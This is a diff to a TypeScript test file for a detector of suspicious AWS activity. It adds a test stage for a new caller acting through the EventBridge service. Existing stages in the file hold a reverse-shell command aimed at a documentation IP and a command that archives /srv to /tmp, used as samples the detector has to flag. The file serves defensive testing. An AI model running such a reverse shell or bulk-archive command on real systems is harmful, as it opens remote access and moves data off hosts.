@@ -1,5 +1,5 @@
 import { application, AZURE_PORTAL, OFFICE, person } from '../../scripts/examples/activity-log'
-import { role, user } from '../../scripts/examples/aws-callers'
+import { role, user, type AwsCaller } from '../../scripts/examples/aws-callers'
 import { AUTOMATION_ACCOUNT, instance, PARTNER_ACCOUNT, vm } from '../../scripts/examples/ids'
 import { story, type Story } from '../../scripts/examples/story'
 import { dateOf, tellOrdinaryMonth } from './ordinary-month'
@@ -18,6 +18,8 @@ const fleet = Array.from({ length: 6 }, (_, place) => instance(1_360 + place))
 const deploy = (ip: string) => role('Deploy', 'GitHubActions-1018', { ip, accessKeyId: 'ASIAEXAMPLEDEPLOY18' })
 const alice = (client: string) => person('alice@example.com', 0x11, { ip: ACCESS, client })
 
+const throughEvents = ({ userIdentity }: AwsCaller): AwsCaller => ({ userIdentity: { ...userIdentity, invokedBy: 'events.amazonaws.com' }, sourceIPAddress: 'events.amazonaws.com', userAgent: 'events.amazonaws.com' })
+
 interface Stage {
   readonly name: string
   readonly tell: (told: Story) => void
@@ -27,6 +29,7 @@ interface Stage {
 
 const STAGES: readonly Stage[] = [
   { name: 'somebody new sends a command', tell: (told) => void told.send(at(1), user('mallory', { ip: ACCESS }), { instances: [fleet[0]!] }), expected: 'first-seen-caller medium' },
+  { name: 'somebody new through a service that others have long used', tell: (told) => void told.send(at(1), throughEvents(user('mallory', { ip: '' })), { instances: [fleet[0]!] }, ['/opt/rotate-logs.sh']), expected: 'first-seen-caller medium' },
   { name: 'the pipeline\'s role through a VPN', tell: (told) => void told.send(at(1), deploy(VPN), { instances: [fleet[0]!] }), expected: 'anonymised-source high' },
   { name: 'another script by the pipeline on its fleet', tell: (told) => void told.send(at(18), deploy(HOSTING), { instances: fleet }, ['tar czf /tmp/a.tgz /srv']), expected: 'mass-execution medium' },
   { name: 'a reverse shell by the pipeline on one machine', tell: (told) => void told.send(at(18), deploy(HOSTING), { instances: [fleet[0]!] }, ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']), expected: 'suspicious-command high' },
